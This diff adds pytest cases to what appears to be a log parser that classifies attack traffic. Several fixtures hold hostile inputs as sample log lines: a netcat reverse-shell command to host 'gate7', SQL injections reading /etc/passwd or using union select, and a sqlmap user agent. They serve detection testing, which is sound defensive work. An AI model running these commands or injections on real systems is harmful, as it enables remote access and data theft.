@@ -67,6 +67,26 @@ def test_what_somebody_gave_says_no_command(text):
     assert found.action != "command" and found.kind != "web" and COMMAND not in found.focus
 
 
+@pytest.mark.parametrize("before, end", [
+    ("ann@db7:~$ nc -e /bin/sh gate7 4444 #", '{"cmd":"ls -la"}'), ("ann@db7:~$ nc -e /bin/sh gate7 4444 #", '"GET /a HTTP/1.1" 200'), (f"2026-11-27 10:11:12 INFO jobs ran command: {COMMAND}", '"GET /a HTTP/1.1" 200'), (f"2026-11-27 10:11:12 INFO 192.0.2.7 GET {ATTACK} 200", 'x {"cmd":"ls -la"}'),
+    (f"2026-11-27 10:11:12 INFO 192.0.2.7 GET {ATTACK} 200", 'cmd: "ls -la /home"'), ("2026-11-27 10:11:12 INFO query: SELECT load_file('/etc/passwd') FROM a", '{"cmd":"ls -la"}'),
+])
+def test_an_object_or_a_pair_at_the_end_of_a_line_is_not_what_happened(before, end):
+    assert read(f"{before} {end}").template.startswith(read(before).template[:24])
+
+
+@pytest.mark.parametrize("line", [
+    'time=1 method=GET path="/a" status=200 agent="sqlmap/1.7" ip=192.0.2.7', 'Mar  1 10:11:12 web1 app[7]: method=GET path="/a" status=200 agent="sqlmap/1.7" ip=192.0.2.7',
+])
+def test_who_asked_is_known_by_the_names_that_pairs_have_for_it(line):
+    assert "agent attack tool sqlmap" in read(line).template
+
+
+def test_pairs_keep_what_happened_and_the_body_beside_a_page():
+    assert read('time=1 level=error msg="Login failed" user="x" cmd="login" src=192.0.2.7 path=/login').action == "login failed"
+    assert "body id num quote union select" in read('method=POST path="/login" status=200 body="id=1\' union select 1,2--" ip=192.0.2.7').template
+
+
 def test_a_device_that_names_both_ends_tells_more_than_a_request():
     found = read("time=1 url=http://shop.example/a status=200 srcip=192.0.2.7 dstip=198.51.100.7")
     assert found.kind == "keyvalue" and "from" in found.template
